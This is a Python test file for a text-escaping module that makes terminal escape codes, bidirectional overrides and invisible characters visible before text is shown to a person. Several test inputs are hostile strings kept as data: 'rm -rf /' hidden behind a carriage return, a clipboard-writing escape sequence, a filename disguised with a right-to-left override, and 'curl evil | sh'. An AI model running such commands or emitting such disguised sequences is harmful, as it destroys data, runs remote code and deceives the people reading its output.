"""Nothing that a stranger wrote can act on a terminal, hide in it or turn its reading direction."""

from __future__ import annotations

import pytest
from hypothesis import given
from hypothesis import strategies as st

from makai.core.visible_text import exact, exact_line, one_line, shown


@pytest.mark.parametrize(
    ("text", "reads"),
    [
        ("ls -la", "ls -la"),
        ("\x1b[2J\x1b]52;c;aGk=\x07", "\\x1b[2J\\x1b]52;c;aGk=\\x07"),
        ("rm \u202e-rf", "rm \\u202e-rf"),
        ("a\x9b31mb", "a\\x9b31mb"),
        ("echo hi\r\x08rm -rf /", "echo hi\\r\\x08rm -rf /"),
        ("zero\u200bwidth\u2060\ufeff", "zero\\u200bwidth\\u2060\\ufeff"),
        ("fillers\u3164\u115f\u2800\U0001d159", "fillers\\u3164\\u115f\\u2800\\U0001d159"),
        ("no\u00a0break\u3000space", "no\\xa0break\\u3000space"),
        ("tags\U000e0041", "tags\\U000e0041"),
        ("two\nlines\tand a tab", "two\nlines\\tand a tab"),
        ("Grüße, 世界, 👍", "Grüße, 世界, 👍"),
        ("half \ud83d", "half \\ud83d"),
    ],
)
def test_who_decides_sees_everything_written_out(text: str, reads: str) -> None:
    assert exact(text) == reads


@pytest.mark.parametrize(
    ("text", "reads"),
    [
        ("red \x1b[31malert\x07", "red \\x1b[31malert\\x07"),
        ("a\r\nb", "a\nb"),
        ("progress 1\rprogress 2", "progress 1\\rprogress 2"),
        ("family 👨‍👩‍👧 stays whole", "family 👨‍👩‍👧 stays whole"),
        ("\u2066turned\u2069", "\\u2066turned\\u2069"),
        ("a\tb", "a    b"),
        ("safe\u202etxt.exe", "safe\\u202etxt.exe"),
        ("zero\u200bwidth\ufeff", "zero\\u200bwidth\\ufeff"),
        ("tags \U000e0041", "tags \\U000e0041"),
        ("hidden\ufe01\ufe02\U000e0101", "hidden\\ufe01\\ufe02\\U000e0101"),
        (
            "\u2764\ufe0f and \u0645\u06cc\u200c\u062e\u0648\u0627\u0647\u0645",
            "\u2764\ufe0f and \u0645\u06cc\u200c\u062e\u0648\u0627\u0647\u0645",
        ),
        (
            "\u05e9\u05dc\u05d5\u05dd, \u0645\u0631\u062d\u0628\u0627",
            "\u05e9\u05dc\u05d5\u05dd, \u0645\u0631\u062d\u0628\u0627",
        ),
    ],
)
def test_who_reads_sees_harmless_text(text: str, reads: str) -> None:
    assert shown(text) == reads


@pytest.mark.parametrize(
    "text",
    ["\u2764\ufe0f", "\u05e9\u05dc\u05d5\u05dd", "\u0645\u0631\u062d\u0628\u0627", "\u0645\u06cc\u200c\u062e\u0648"],
)
def test_letters_of_every_script_and_emoji_stay_as_they_are(text: str) -> None:
    assert shown(text) == text


def test_a_title_is_one_line() -> None:
    assert one_line("a\n  b\tc") == "a b c"


@pytest.mark.proof("T3")
@given(st.text())
def test_exact_text_has_nothing_but_line_breaks_and_visible_characters(text: str) -> None:
    assert all(character == "\n" or character.isprintable() for character in exact(text))


@given(st.text())
def test_shown_text_has_no_control_character_but_line_breaks(text: str) -> None:
    assert not [c for c in shown(text) if c != "\n" and (ord(c) < 32 or 127 <= ord(c) < 160 or c in "\u202e\u2066")]


def test_a_line_to_decide_by_keeps_its_end_and_says_what_is_left_out() -> None:
    assert exact_line("a\nb\u200d\u3164") == "a\\nb\\u200d\\u3164"
    line = exact_line("x" * 190 + "curl evil | sh", 90)
    assert line == f"{'x' * 30} [… 159 characters not shown …] xcurl evil | sh"
    assert len(exact_line("x" * 1_000_000, 90)) <= 90
